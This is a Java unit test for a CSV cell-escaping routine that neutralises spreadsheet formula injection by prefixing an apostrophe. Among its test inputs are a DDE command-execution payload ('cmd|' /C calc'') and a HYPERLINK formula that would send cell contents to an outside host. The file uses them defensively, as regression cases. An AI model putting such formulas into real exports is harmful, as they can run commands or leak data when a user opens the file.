package dev.mindfulcode.apigateway.http;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CsvCellTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "+1+1",
                "-1+1",
                "@SUM(A1)",
                "\t=1+1",
                "\r=1+1",
                "\n=1+1",
                "\uFF1D1+1",
                "\uFF0B1+1",
                "\uFF0D1+1",
                "\uFF20SUM(A1)",
                " =1+1",
                "\u00A0=1+1",
                "\uFEFF=1+1",
                "\"=1+1",
                "-",
                "-1x",
                "--1",
                "+49 30 1234",
                "-2+3+cmd|' /C calc'!A0",
                "=HYPERLINK(\"http://example.org/?\"&A1)",
            })
    void putsAnApostropheBeforeAFormula(String text) {
        assertThat(CsvCell.text(text)).isEqualTo("'" + text);
    }

    @Test
    void putsAnApostropheBeforeAFormulaBehindTheSeparatorOfAnotherProgram() {
        assertThat(CsvCell.text("a;=1+1")).isEqualTo("a;'=1+1");
        assertThat(CsvCell.text("a; \"=1+1\"")).isEqualTo("a;' \"=1+1\"");
        assertThat(CsvCell.text("a\t=1+1")).isEqualTo("a\t'=1+1");
        assertThat(CsvCell.text("a\r\n=1+1")).isEqualTo("a\r\n'=1+1");
        assertThat(CsvCell.text("a|\uFF20x")).isEqualTo("a|'\uFF20x");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "0",
                "-1",
                "-0.5",
                "12.25",
                "-1.5e-7",
                "1E+3",
                "2026-01-02",
                "a-b",
                "a = b",
                "x@example.org",
                "[1,-2]",
                "{\"a\":-1}",
                "a, -b",
                "one\n\ntwo",
                "'quoted'",
                "Ünïcode"
            })
    void leavesNumbersAndOrdinaryTextAsTheyAre(String text) {
        assertThat(CsvCell.text(text)).isEqualTo(text);
    }
}
